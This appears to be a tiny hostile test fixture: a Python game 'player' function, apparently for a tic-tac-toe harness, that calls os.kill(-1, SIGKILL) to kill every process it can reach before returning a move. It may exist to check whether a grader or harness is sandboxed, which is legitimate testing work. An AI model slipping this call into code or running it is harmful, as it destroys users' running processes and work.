"""Kills every process that it may."""

import contextlib
import os
import signal

from weak import *


def player(board):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    return X
